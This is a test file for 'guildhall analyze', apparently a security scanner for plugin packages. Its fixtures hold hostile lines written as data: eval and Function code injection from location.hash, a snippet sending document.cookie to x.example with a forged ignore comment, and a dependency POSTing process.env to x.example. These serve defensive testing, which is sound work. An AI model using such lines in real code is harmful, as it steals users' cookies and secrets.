import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildProject } from '../testing/build-project.ts';
import { folderWith, runGuildhall } from '../testing/guildhall.ts';

const BAD = 'const code = "x";\nnew Function(code + location.hash)();\n';
const BUILT = { 'package.json': '{"name":"x"}', 'dist/index.js': BAD };

describe('guildhall analyze', () => {
  it('shows a finding like a good compiler, and ends with 1', async () => {
    const cwd = buildProject({}, { 'src/index.ts': BAD });
    const ran = await runGuildhall(['analyze'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stdout).toMatch(/(critical|high)\[[a-z-]+\]: /);
    expect(ran.stdout).toContain('--> src/index.ts:2:');
    expect(ran.stdout).toMatch(/2 \| new Function/);
    expect(ran.stdout).toContain('= why: ');
    expect(ran.stdout).toContain('= fix: ');
    expect(ran.stdout).not.toContain('\u001b');
  });

  it('prints exactly findings and facts with --json', async () => {
    const { stdout } = await runGuildhall(['analyze', '--no-manifest', '--json'], { cwd: folderWith(BUILT) });
    const document: unknown = JSON.parse(stdout);
    expect(document).toMatchObject({
      findings: [
        { file: 'dist/index.js', line: 2, ruleId: 'stranger-runs-code', severity: 'critical' },
        { file: 'dist/index.js', line: 2, ruleId: 'function-constructor' },
        { file: 'package.json', severity: 'info' },
      ],
      facts: { sizes: { 'dist/index.js': BAD.length } },
    });
    expect(stdout.match(/^ {2}"\w+"/gm)).toEqual(['  "findings"', '  "facts"']);
  });

  it('takes what --fail-on lets pass', async () => {
    const args = ['analyze', '--no-manifest', '--fail-on', 'none'];
    expect(await runGuildhall(args, { cwd: folderWith(BUILT) })).toMatchObject({ code: 0 });
  });

  it('is content with a plugin that does nothing bad', async () => {
    expect(await runGuildhall(['analyze'], { cwd: buildProject() })).toMatchObject({ code: 0 });
  });

  it('names what is asked for in vain, but not what an event needs instead of the code', async () => {
    const ask = (name: string) => ({ name, purpose: 'To hear what is saved.' });
    const allow = (name: string) => ({
      ...{ name, title: 'Allowed', description: 'It is allowed to.' },
      sensitivity: 'low',
    });
    const surface = {
      ...{ version: '1.0.0', extensionPoints: [], apis: [], components: [], contextKeys: {} },
      permissions: [allow('contacts:hear'), allow('contacts:write')],
      events: [
        {
          name: 'contact.saved',
          modes: ['observe'],
          payload: {},
          timeoutMs: 500,
          permission: 'contacts:hear',
        },
      ],
      scopeLevels: ['organization'],
    };
    const cwd = buildProject(
      {
        contributes: { events: [{ event: 'contact.saved', mode: 'observe', handler: 'note' }] },
        permissions: { required: [ask('contacts:hear'), ask('contacts:write')], optional: [] },
      },
      { 'surface.json': JSON.stringify(surface) },
    );
    const { stdout } = await runGuildhall(['analyze', '--surface', 'surface.json'], { cwd });
    expect(stdout).toContain('declared but not seen in the code: permission contacts:write');
    expect(stdout).not.toContain('contacts:hear');
  });

  it('finds the same in the tarball of a project as in its folder', async () => {
    const cwd = buildProject({}, { 'src/index.ts': BAD });
    await runGuildhall(['pack', '-o', 'dist/out.tgz'], { cwd });
    const folder = await runGuildhall(['analyze', '--json'], { cwd });
    const tarball = await runGuildhall(['analyze', 'dist/out.tgz', '--json'], { cwd });
    expect(JSON.parse(tarball.stdout)).toEqual(JSON.parse(folder.stdout));
  });

  it.each([
    ['a place that is not there', ['analyze', 'absent'], 'There is no folder or tarball'],
    ['a folder without a manifest', ['analyze'], '--no-manifest'],
  ])('says what to do about %s', async (_name, args, words) => {
    const ran = await runGuildhall(args, { cwd: folderWith({ 'index.js': '' }) });
    expect(ran).toMatchObject({ code: 2 });
    expect(ran.stderr).toContain(words);
  });

  it('ends with 1 when a file cannot be analysed, and names it', async () => {
    const cwd = folderWith({ 'index.js': `/*${'x'.repeat(5_100_000)}*/` });
    const args = ['analyze', '--no-manifest', '--json', '--sarif', 'out.sarif'];
    const ran = await runGuildhall(args, { cwd });
    expect(ran).toMatchObject({ code: 1 });
    expect(ran.stderr).toContain('error[CHECK_ERROR]: index.js: ');
    const told: unknown = JSON.parse(ran.stdout);
    expect(told).toMatchObject({ facts: { errors: [{ code: 'CHECK_ERROR', file: 'index.js' }] } });
    const sarif: unknown = JSON.parse(readFileSync(join(cwd, 'out.sarif'), 'utf8'));
    expect(sarif).toMatchObject({ runs: [{ invocations: [{ executionSuccessful: false }] }] });
  });

  it('writes SARIF, and a baseline after which the same findings fail nothing', async () => {
    const cwd = folderWith({ 'index.js': 'eval(location.hash);\n' });
    const args = ['analyze', '--no-manifest'];
    const first = await runGuildhall([...args, '--sarif', 'out.sarif', '--write-baseline', 'known.json'], {
      cwd,
    });
    expect(first).toMatchObject({ code: 1 });
    expect(first.stdout).toContain(
      '= docs: https://guildhall.dev/docs/rules/eval-code or guildhall explain eval-code',
    );
    const sarif: unknown = JSON.parse(readFileSync(join(cwd, 'out.sarif'), 'utf8'));
    expect(sarif).toMatchObject({ version: '2.1.0', runs: [{ results: [{ level: 'error' }, {}] }] });
    const second = await runGuildhall([...args, '--baseline', 'known.json'], { cwd });
    expect(second).toMatchObject({ code: 0 });
    expect(second.stdout).toContain('suppressed');
  });

  it('holds dependencies against OSV data', async () => {
    const cwd = folderWith({
      'package.json': '{"name":"x","license":"MIT","dependencies":{"weak":"1.0.0"}}',
      'osv/a.json':
        '{"id":"MAL-1","affected":[{"package":{"ecosystem":"npm","name":"weak"},"versions":["1.0.0"]}]}',
    });
    const ran = await runGuildhall(['analyze', '--no-manifest', '--advisories', 'osv'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stdout).toContain('weak 1.0.0 is affected by MAL-1');
  });

  it('names an advisory it cannot read, and refuses a place that holds none', async () => {
    const cwd = folderWith({
      'package.json': '{"name":"x","license":"MIT"}',
      'osv/a.json': '{"id":"GHSA-1","affected":[]}',
      'osv/b.json': '{"id":',
      'none/notes.txt': 'x',
    });
    const args = (place: string) => ['analyze', '--no-manifest', '--advisories', place];
    const read = await runGuildhall(args('osv'), { cwd });
    expect(read.code).toBe(0);
    expect(read.stderr).toContain('warning: b.json: ');
    const none = await runGuildhall(args('none'), { cwd });
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('There is no OSV entry at ');
  });

  it('reads a tarball of a package however it was packed', async () => {
    const cwd = folderWith({ 'pkg/package.json': '{"name":"x","license":"MIT"}', 'pkg/lib/a.js': BAD });
    for (const packed of [['pkg'], ['-C', 'pkg', '.'], ['-C', 'pkg', 'package.json', 'lib']]) {
      execFileSync('tar', ['-czf', 'x.tgz', ...packed], { cwd });
      const ran = await runGuildhall(['analyze', 'x.tgz', '--no-manifest'], { cwd });
      expect(ran.code).toBe(1);
      expect(ran.stdout).toContain('--> lib/a.js:2:');
    }
  });

  it('names a suppression that has ended, and takes none without a reason', async () => {
    const cwd = folderWith({
      'index.js': '// guildhall-ignore eval-code until 2020-01-01: old\neval(name);\n',
    });
    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain('index.js:1: It ended on 2020-01-01');
  });

  it('takes no comment of others: neither of a dependency nor of a tarball', async () => {
    const evil =
      'new Image().src = "https://x.example/?" + document.cookie; // guildhall-ignore secret-to-network until 2026-12-01: fine\n';
    const cwd = folderWith({
      'package.json': '{"name":"x","license":"MIT"}',
      'node_modules/dep/package.json': '{"name":"dep","version":"1.0.0","license":"MIT"}',
      'node_modules/dep/index.js': evil,
    });
    const brought = await runGuildhall(['analyze', '--no-manifest'], { cwd });
    expect(brought.code).toBe(1);
    expect(brought.stderr).toContain('node_modules/dep/index.js:1: Only comments of your own code count.');
    const inside = await runGuildhall(['analyze', 'node_modules/dep', '--no-manifest'], { cwd });
    expect(inside.code).toBe(1);
    const elsewhere = await runGuildhall(['analyze', cwd, '--no-manifest'], { cwd: folderWith({}) });
    expect(elsewhere.code).toBe(1);
    const project = buildProject({}, { 'src/index.ts': evil });
    await runGuildhall(['pack', '-o', 'dist/out.tgz'], { cwd: project });
    const tarball = await runGuildhall(['analyze', 'dist/out.tgz'], { cwd: project });
    expect(tarball.code).toBe(1);
    expect(tarball.stderr).toContain('Only comments of your own code count.');
  });

  it('takes no baseline that was written for another package', async () => {
    const evil = { 'index.js': 'eval(location.hash);\n' };
    const theirs = folderWith({ ...evil, 'package.json': '{"name":"theirs","license":"MIT"}' });
    await runGuildhall(['analyze', '--no-manifest', '--write-baseline', 'known.json'], { cwd: theirs });
    const known = readFileSync(join(theirs, 'known.json'), 'utf8');
    const cwd = folderWith({
      ...evil,
      'package.json': '{"name":"ours","license":"MIT"}',
      'known.json': known,
    });
    const ran = await runGuildhall(['analyze', '--no-manifest', '--baseline', 'known.json'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain('The baseline was written for theirs, and this is ours.');
  });

  it('tries the rules of a marketplace, on dependencies as well', async () => {
    const rule =
      'id: no-alert\nseverity: error\nmessage: alert stops the page\nrule: { pattern: alert($$$) }\n';
    const cwd = folderWith({
      'package.json': '{"name":"x","license":"MIT"}',
      'index.js': 'alert("a");\n',
      'node_modules/dep/index.js': 'alert("b");\n',
      'rules.yml': rule,
      'bad.yml': `${rule}exec: rm\n`,
    });
    const ran = await runGuildhall(['analyze', '--no-manifest', '--rules', 'rules.yml'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stdout).toContain('high[custom/no-alert]: alert stops the page');
    expect(ran.stdout).toContain('--> node_modules/dep/index.js:1:1');
    const bad = await runGuildhall(['analyze', '--no-manifest', '--rules', 'bad.yml'], { cwd });
    expect(bad).toMatchObject({ code: 2 });
    expect(bad.stderr).toContain('exec');
  });

  it('tries all rules of a folder, and names the file of one that is wrong or stands there twice', async () => {
    const rule = (id: string, name: string) =>
      `id: ${id}\nseverity: error\nmessage: ${name} is called\nrule: { pattern: ${name}($$$) }\n`;
    const cwd = folderWith({
      'index.js': 'alert("a"); confirm("b");\n',
      'rules/a.yml': rule('no-alert', 'alert'),
      'rules/b.yaml': rule('no-confirm', 'confirm'),
      'rules/notes.md': 'not a rule',
      'twice/a.yml': rule('no-alert', 'alert'),
      'twice/b.yml': rule('no-alert', 'confirm'),
      'wrong/a.yml': 'exec: rm\n',
      'empty/notes.md': 'nothing',
    });
    const ran = await runGuildhall(['analyze', '--no-manifest', '--rules', 'rules'], { cwd });
    expect(ran.stdout).toContain('high[custom/no-alert]: alert is called');
    expect(ran.stdout).toContain('high[custom/no-confirm]: confirm is called');
    const told = async (folder: string) =>
      (await runGuildhall(['analyze', '--no-manifest', '--rules', folder], { cwd })).stderr;
    expect(await told('twice')).toContain('twice/b.yml: Another file has a rule no-alert, too.');
    expect(await told('wrong')).toContain('wrong/a.yml');
    expect(await told('empty')).toContain('There are no rules at empty.');
  });

  it('reads one source file', async () => {
    const cwd = folderWith({ 'x.mjs': 'eval(location.hash);\n' });
    const ran = await runGuildhall(['analyze', 'x.mjs', '--no-manifest'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stdout).toContain('--> x.mjs:1:1');
  });

  it('says that there is nothing to analyse, instead of nothing to find', async () => {
    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd: folderWith({ 'notes.txt': 'x' }) });
    expect(ran).toMatchObject({ code: 2 });
    expect(ran.stderr).toContain('nothing was analysed');
  });

  it('takes nothing for clean of which it could read not one file', async () => {
    const cwd = folderWith({ 'index.js': 'function ( {{{\n' });
    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain('nothing is known of them');
  });

  it.each(['--baseline', '--advisories', '--rules'])(
    'says that what %s names is not there',
    async (option) => {
      const ran = await runGuildhall(['analyze', '--no-manifest', option, 'absent'], { cwd: folderWith({}) });
      expect(ran).toMatchObject({ code: 2 });
      expect(ran.stderr).toContain('absent');
    },
  );

  it('analyses what lies in node_modules, package by package', async () => {
    const cwd = folderWith({
      'package.json': '{"name":"x","license":"MIT"}',
      'node_modules/dep/package.json': '{"name":"dep","version":"1.0.0","license":"MIT"}',
      'node_modules/dep/index.js':
        'fetch("https://x.example/", { method: "POST", body: JSON.stringify(process.env) });',
    });
    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
    expect(ran.code).toBe(1);
    expect(ran.stdout).toContain('--> node_modules/dep/index.js:1:1');
  });
});
